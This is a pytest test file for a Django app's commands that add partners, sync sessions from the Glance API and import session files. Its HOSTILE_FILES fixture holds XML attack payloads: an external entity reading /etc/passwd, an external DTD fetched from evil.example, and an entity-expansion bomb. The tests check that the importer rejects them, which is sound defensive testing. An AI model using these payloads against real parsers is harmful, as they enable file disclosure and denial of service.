"""The operators' commands: add_partner, sync_glance, import_glance_file."""

import io
import os
import subprocess
import sys

import pytest
from django.core.management import CommandError, call_command

from sessions_app.models import AuditEvent, Guest, Partner, Session, SyncRun
from tests.helpers.glance import PARTNER_ID, PARTNER_KEY, make_partner
from tests.helpers.processes import ROOT, database_url
from tests.helpers.seed import FIXTURES


def run(*args, **kwargs):
    out = io.StringIO()
    call_command(*args, stdout=out, **kwargs)
    return out.getvalue()


def test_add_partner_creates_with_an_encrypted_key(db):
    output = run(
        "add_partner", "--name", "Acme", "--partner-id", "777", "--api-key", "s3cret-key-9876"
    )
    partner = Partner.objects.get(glance_partner_id=777)
    assert "Created partner Acme (777)" in output and "••••9876" in output
    assert "s3cret-key-9876" not in output
    assert partner.api_key == "s3cret-key-9876"
    raw = Partner.objects.filter(pk=partner.pk).values_list("api_key_encrypted", flat=True).get()
    assert "s3cret" not in raw


def test_add_partner_updates_the_same_partner_id_and_reads_the_key_from_env(db, monkeypatch):
    run("add_partner", "--name", "Acme", "--partner-id", "777", "--api-key", "first-key-0001")
    monkeypatch.setenv("ACME_KEY", "second-key-0002")
    output = run(
        "add_partner",
        "--update",
        "--name",
        "Acme EU",
        "--partner-id",
        "777",
        "--api-key-env",
        "ACME_KEY",
        "--api-url",
        "http://127.0.0.1:9/x",
        "--backfill-from",
        "2026-01-15",
    )
    partner = Partner.objects.get()
    assert "Updated partner Acme EU" in output
    assert (partner.api_key, partner.api_url, str(partner.backfill_start)) == (
        "second-key-0002",
        "http://127.0.0.1:9/x",
        "2026-01-15",
    )


def test_add_partner_refuses_a_new_partner_without_a_key(db):
    with pytest.raises(CommandError, match="needs --api-key"):
        run("add_partner", "--name", "Acme", "--partner-id", "778")
    assert not Partner.objects.exists()


def test_sync_glance_prints_a_summary_line(glance, partner):
    output = run("sync_glance", "--partner", str(PARTNER_ID))
    count = Session.objects.count()
    assert f"succeeded: {count} new, 0 updated" in output and count > 0


def test_sync_glance_with_a_range_fetches_only_that_range(glance, partner):
    run(
        "sync_glance",
        "--partner",
        str(PARTNER_ID),
        "--since",
        "2026-01-01",
        "--until",
        "2026-01-01T00:00Z",
    )
    assert SyncRun.objects.get().state == "succeeded" and not Session.objects.exists()
    assert glance.calls() == []


def test_sync_glance_fails_with_the_error_on_a_wrong_key(glance, db):
    make_partner(glance, key="not-the-key")
    with pytest.raises(CommandError, match="API key was refused"):
        run("sync_glance")


def test_sync_glance_names_an_unknown_partner(db):
    with pytest.raises(CommandError, match="no partner with Glance id 999"):
        run("sync_glance", "--partner", "999")


@pytest.mark.django_db(transaction=True)
def test_sync_glance_exit_status_in_a_real_process(glance):
    partner = make_partner(glance)
    env = {**os.environ, "DATABASE_URL": database_url()}
    ok = subprocess.run(
        [sys.executable, "manage.py", "sync_glance"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert ok.returncode == 0, ok.stderr
    assert "succeeded" in ok.stdout and Session.objects.filter(partner=partner).exists()
    partner.set_api_key("wrong")
    partner.save()
    bad = subprocess.run(
        [sys.executable, "manage.py", "sync_glance"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert bad.returncode != 0
    assert "API key was refused" in bad.stderr and PARTNER_KEY not in bad.stderr + bad.stdout


def test_import_glance_file_imports_the_seed_json(archive_partner):
    output = run(
        "import_glance_file", str(FIXTURES / "seed_answer.json"), "--partner", str(PARTNER_ID)
    )
    assert "2 new, 0 updated" in output
    video = Session.objects.get(glance_id=56960588)
    assert (video.key, video.agent.user_name, video.guests.count()) == (
        "9900V51849",
        "agent.company.glance.net",
        2,
    )
    assert SyncRun.objects.get().trigger == "import"


def test_import_glance_file_imports_the_seed_xml_twice_without_duplicates(archive_partner):
    run("import_glance_file", str(FIXTURES / "seed_sessions.xml"))
    output = run("import_glance_file", str(FIXTURES / "seed_sessions.xml"))
    assert "0 new, 0 updated" in output  # the same file again changes nothing
    assert Session.objects.count() == 2 and Guest.objects.count() == 4
    assert Guest.objects.get(name="Greta Guest").error == "Session ended by other side"


def test_import_glance_file_changes_nothing_when_the_file_is_malformed(archive_partner, tmp_path):
    good = (FIXTURES / "seed_answer.json").read_text()
    bad = tmp_path / "bad.json"
    bad.write_text(good.replace('"startTime": "2020-02-13T18:34:18Z"', '"startTime": "soon"'))
    with pytest.raises(
        CommandError, match=r"nothing imported: .*d\.users\[1\]\.sessions\[0\]\.startTime"
    ):
        run("import_glance_file", str(bad))
    assert not Session.objects.exists()


def test_import_glance_file_refuses_an_oversized_file(partner, tmp_path, settings):
    settings.GLANCE_MAX_IMPORT_BYTES = 100
    with pytest.raises(CommandError, match="over the import limit"):
        run("import_glance_file", str(FIXTURES / "seed_answer.json"))


def test_import_glance_file_skips_sessions_past_retention_and_says_so(partner):
    output = run("import_glance_file", str(FIXTURES / "seed_answer.json"))
    assert "0 new, 0 updated" in output
    assert "Skipped 2 sessions older than" in output and "(730 days)" in output
    assert not Session.objects.exists()


def test_add_partner_is_audited_without_the_key(db):
    run("add_partner", "--name", "Acme", "--partner-id", "777", "--api-key", "s3cret-key-9876")
    run(
        "add_partner",
        "--update",
        "--name",
        "Acme",
        "--partner-id",
        "777",
        "--api-key",
        "n3w-key-1111",
    )
    events = list(AuditEvent.objects.order_by("pk").values_list("action", "actor_name"))
    assert events == [
        ("partner_created", "manage.py"),
        ("partner_changed", "manage.py"),
        ("api_key_changed", "manage.py"),
    ]
    assert not any("key-" in e.summary + str(e.details) for e in AuditEvent.objects.all())


HOSTILE_FILES = {
    "an external entity": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b"<session><id>&e;</id></session>",
        "XML refused: it declares a document type",
    ),
    "an external DTD": (
        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'
        b"<session><id>1</id></session>",
        "could expand entities or read other files",
    ),
    "entity expansion": (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10)
            for i in range(8)
        )
        + b"]><session><id>&i;</id></session>",
        "XML refused",
    ),
    "XML cut short": (
        (FIXTURES / "seed_sessions.xml").read_bytes()[:700],
        r"XML is not well-formed: .*line \d+, column \d+",
    ),
    "a bad value in XML": (
        (FIXTURES / "seed_sessions.xml").read_bytes().replace(b"<duration>", b"<duration>x", 1),
        r"/session\[1\]/duration: not a number",
    ),
    "JSON with a syntax error": (
        (FIXTURES / "seed_answer.json").read_bytes().replace(b'"nextId"', b'"nextId",', 1),
        r"not valid JSON .*line \d+ column \d+",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_import_glance_file_refuses_a_hostile_or_broken_file_and_imports_nothing(
    archive_partner, tmp_path, name
):
    body, message = HOSTILE_FILES[name]
    path = tmp_path / ("file.xml" if body.lstrip().startswith(b"<") else "file.json")
    path.write_bytes(body)
    with pytest.raises(CommandError, match=message):
        run("import_glance_file", str(path))
    assert not Session.objects.exists() and not Guest.objects.exists()
    assert not SyncRun.objects.exists()


def test_add_partner_changes_an_existing_partner_only_with_update_and_says_who_has_access(world):
    with pytest.raises(CommandError) as refused:
        run("add_partner", "--name", "Real Customer", "--partner-id",
            str(world.a.glance_partner_id), "--api-key", "real-key-0001")  # fmt: skip
    said = str(refused.value)
    assert "already exists" in said and "--update" in said
    assert "admin (admin)" in said and "analyst (analyst)" in said  # who would see its data
    world.a.refresh_from_db()
    assert world.a.name != "Real Customer" and world.a.api_key != "real-key-0001"
    output = run("add_partner", "--update", "--name", "Real Customer", "--partner-id",
                 str(world.a.glance_partner_id), "--api-key", "real-key-0001")  # fmt: skip
    assert "Updated partner Real Customer" in output and "admin (admin)" in output
    world.a.refresh_from_db()
    assert (world.a.name, world.a.api_key) == ("Real Customer", "real-key-0001")


def test_add_partner_update_needs_an_existing_partner(db):
    with pytest.raises(CommandError, match="no partner with Glance id 779"):
        run("add_partner", "--update", "--name", "Acme", "--partner-id", "779")
